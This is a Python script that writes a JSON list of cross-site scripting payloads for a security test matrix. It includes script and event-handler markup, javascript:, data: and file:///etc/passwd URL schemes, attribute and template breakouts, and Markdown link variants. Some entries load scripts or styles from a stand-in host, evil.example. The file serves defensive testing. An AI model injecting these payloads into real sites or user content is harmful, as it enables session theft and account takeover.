"""make_payloads.py: writes xss-payloads.json, the hostile inputs of the
XSS matrix (reference/security.md T7): script and event-handler markup,
dangerous URL schemes with mixed case, entities and whitespace, attribute
and element breakouts, JSON and XML breakouts, line and paragraph
separators, control characters, and Markdown link and image variants.
Run it again after editing; the JSON file is what the tests read."""
import json
import os

SCHEMES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
           "java\tscript:alert(1)", "java\nscript:alert(1)",
           "&#106;avascript:alert(1)", "jav&#x61;script:alert(1)",
           "javascript&colon;alert(1)", "vbscript:msgbox(1)", "VBSCRIPT:x",
           "data:text/html,<script>alert(1)</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
           "DATA:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd",
           "//evil.example/x", "\\\\evil.example\\x", "javascript://%0aalert(1)"]
MARKUP = ["<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>",
          "<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>",
          "<details open ontoggle=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<style>*{background:url(javascript:alert(1))}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
          "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
          "<form action=javascript:alert(1)><button>x</button></form>",
          "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
          "<base href=//evil.example/>", "<!--<script>alert(1)//-->",
          "<![CDATA[<script>alert(1)</script>]]>", "<scr<script>ipt>alert(1)</script>",
          "<img src=\"x\" alt=\"\" onerror=\"alert(1)\">", "<a href=x onmouseover=alert(1)>x</a>",
          "<x onclick=alert(1)>x</x>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<template><script>alert(1)</script></template>", "<plaintext>"]
BREAKOUTS = ["\"><script>alert(1)</script>", "'><script>alert(1)</script>",
             "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
             "\" autofocus onfocus=alert(1) x=\"", "</title><script>alert(1)</script>",
             "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
             "</script><script>alert(1)</script>", "</script>", "<!--", "-->",
             "]]>", "]]><script>alert(1)</script>", "<?xml version=\"1.0\"?>",
             "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;",
             "&#60;script&#62;", "\\u003cscript\\u003e", "{\"a\":\"</script>\"}",
             "\"}]}</script><script>alert(1)</script>", "'-alert(1)-'",
             "\";alert(1);//", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
             "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"]
CHARS = ["line\u2028separator", "para\u2029separator", "nul\u0000byte",
         "carriage\rreturn", "line\nfeed", "cr\r\nlf", "esc\u001b[31mred",
         "bell\u0007", "del\u007f", "c1\u0085next", "bom\ufeffmark",
         "rtl\u202eoverride", "zero\u200bwidth", "nonchar\uffff",
         "فارسی <script>alert(1)</script>", "עברית\" onclick=\"x",
         "emoji 🔥 <b>x</b>", "surrogates 𝒳𝒴"]
MARKDOWN = ["[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))",
            "[x]( javascript:alert(1) )", "[x](<javascript:alert(1)>)",
            "[x](java%0ascript:alert(1))", "[x](data:text/html,x)",
            "![x](javascript:alert(1))", "![x](http://evil.example/track.gif)",
            "![x\"onerror=\"alert(1)](http://e.example/a.png)",
            "[x](http://e.example \"title\\\" onmouseover=alert(1)\")",
            "<javascript:alert(1)>", "<http://e.example/\"onmouseover=alert(1)>",
            "[x][r]\n\n[r]: javascript:alert(1)", "[x](vbscript:x)",
            "`<script>alert(1)</script>`", "```\n</code><script>alert(1)</script>\n```",
            "<div onclick=alert(1)>raw html</div>", "*<img src=x onerror=alert(1)>*",
            "> <script>alert(1)</script>", "- <svg onload=alert(1)>",
            "[<img src=x onerror=alert(1)>](http://e.example)",
            "[x](http://e.example/<script>)", "[x](mailto:a@b.example?subject=<script>)",
            "\\<script\\>alert(1)\\</script\\>"]

payloads = MARKUP + SCHEMES + BREAKOUTS + CHARS + MARKDOWN
here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "xss-payloads.json"), "w", encoding="utf-8") as f:
    json.dump(payloads, f, ensure_ascii=True, indent=0)
    f.write("\n")
print(len(payloads), "payloads")
